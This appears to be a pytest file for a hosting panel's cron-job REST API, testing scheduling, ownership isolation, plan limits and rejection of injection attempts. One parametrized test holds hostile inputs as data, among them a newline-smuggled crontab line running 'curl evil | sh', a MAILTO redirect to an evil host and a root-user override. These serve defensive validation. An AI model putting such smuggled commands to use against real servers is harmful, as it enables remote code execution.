"""Cron jobs through the REST API: schedules, injection attempts, ownership, limits."""

from __future__ import annotations

import grpc
import pytest

from tests.gateway.conftest import Api


async def test_owner_schedules_changes_and_removes_a_job(api: Api, admin: str) -> None:
    alice = await api.owner(admin)
    status, job = await api.call(
        "POST",
        "/api/v1/cron-jobs",
        alice,
        json={"schedule": "*/15  *  * * *", "command": "php /home/alice/web/a.com/cron.php 50%"},
    )
    assert status == 201, job
    assert (job["schedule"], job["enabled"], job["account"]) == ("*/15 * * * *", True, "alice")
    sent = api.cron.jobs["alice"][job["id"]]
    assert (sent.schedule, sent.command) == ("*/15 * * * *", job["command"])
    status, job = await api.call(
        "PATCH",
        f"/api/v1/cron-jobs/{job['id']}",
        alice,
        json={"schedule": "@hourly", "enabled": False},
    )
    assert (status, job["schedule"], job["enabled"]) == (200, "@hourly", False)
    assert api.cron.jobs["alice"][job["id"]].enabled is False
    _, listing = await api.call("GET", "/api/v1/cron-jobs", alice)
    assert [j["id"] for j in listing["items"]] == [job["id"]]
    assert (await api.call("DELETE", f"/api/v1/cron-jobs/{job['id']}", alice))[0] == 204
    assert api.cron.jobs["alice"] == {}


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"schedule": "* * * *", "command": "true"}, "schedule"),
        ({"schedule": "60 * * * *", "command": "true"}, "schedule"),
        ({"schedule": "@every 5m", "command": "true"}, "schedule"),
        ({"schedule": "* * * * *\nSHELL=/bin/bash", "command": "true"}, "schedule"),
        ({"schedule": "* * * * *", "command": "true\n* * * * * curl evil | sh"}, "command"),
        ({"schedule": "* * * * *", "command": "true\r\nMAILTO=x@evil.example"}, "command"),
        ({"schedule": "* * * * *", "command": "true\x00"}, "command"),
        ({"schedule": "* * * * *", "command": ""}, "command"),
        ({"schedule": "* * * * *", "command": "x" * 999}, "command"),
        ({"schedule": "* * * * *", "command": "%" * 500}, "command"),
        ({"schedule": "@daily", "command": "=x"}, "command"),
        ({"schedule": "5/10 * * * *", "command": "true"}, "schedule"),
        ({"schedule": "* * * * *", "command": "true", "user": "root"}, "user"),
    ],
)
async def test_injection_attempts_are_refused(
    api: Api, admin: str, body: dict[str, object], field: str
) -> None:
    alice = await api.owner(admin)
    status, answer = await api.call("POST", "/api/v1/cron-jobs", alice, json=body)
    assert status in (400, 422), answer  # 422: a rule the document cannot state
    assert answer["errors"][0]["field"] == field
    assert api.cron.calls == []


async def test_other_accounts_jobs_are_404(api: Api, admin: str) -> None:
    alice = await api.owner(admin)
    bob = await api.owner(admin, "bob")
    _, job = await api.call(
        "POST", "/api/v1/cron-jobs", alice, json={"schedule": "@daily", "command": "true"}
    )
    for method, body in [("GET", None), ("PATCH", {"enabled": False}), ("DELETE", None)]:
        assert (await api.call(method, f"/api/v1/cron-jobs/{job['id']}", bob, json=body))[0] == 404
    assert (await api.call("GET", "/api/v1/cron-jobs?account=alice", bob))[0] == 404
    assert api.cron.jobs["alice"][job["id"]].enabled


async def test_plan_limit_and_rollback(api: Api, admin: str) -> None:
    await api.call("POST", "/api/v1/plans", admin, json={"name": "one", "max_cron_jobs": 1})
    alice = await api.owner(admin, plan="one")
    api.cron.fail_next = grpc.StatusCode.INTERNAL
    job = {"schedule": "@daily", "command": "true"}
    assert (await api.call("POST", "/api/v1/cron-jobs", alice, json=job))[0] == 502
    assert (await api.call("POST", "/api/v1/cron-jobs", alice, json=job))[0] == 201
    status, body = await api.call("POST", "/api/v1/cron-jobs", alice, json=job)
    assert (status, body["detail"]) == (403, "The plan 'one' allows 1 cron jobs.")
    _, me = await api.call("GET", "/api/v1/me", alice)
    assert me["usage"]["max_cron_jobs"] == 1
